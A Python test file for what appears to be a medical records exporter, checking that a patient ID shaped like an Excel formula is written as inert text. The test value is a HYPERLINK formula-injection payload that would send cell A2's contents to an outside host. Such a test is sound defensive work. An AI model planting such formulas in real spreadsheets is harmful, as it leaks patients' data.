"""Tables as bytes."""

from __future__ import annotations

from io import BytesIO

from openpyxl import load_workbook

from tests.records.answers.frames import INTERRUPTED, beams
from workbench.records.export import RecordsFormat, rendered


def test_words_of_an_object_are_no_formulas_of_a_workbook() -> None:
    """A Patient ID that begins as a formula does stays what it is: Excel computes nothing and follows no link."""
    evil = '=HYPERLINK("http://example.org/?"&A2)'
    frame = beams(*INTERRUPTED)
    frame["patient_id"] = frame["patient_id"].astype(object).where(frame.index != 0, evil)

    sheet = load_workbook(BytesIO(rendered(frame, RecordsFormat.EXCEL)))["beams"]

    (header, *rows) = sheet.iter_rows()
    cell = rows[0][[one.value for one in header].index("patient_id")]
    assert (cell.value, cell.data_type) == (evil, "s")
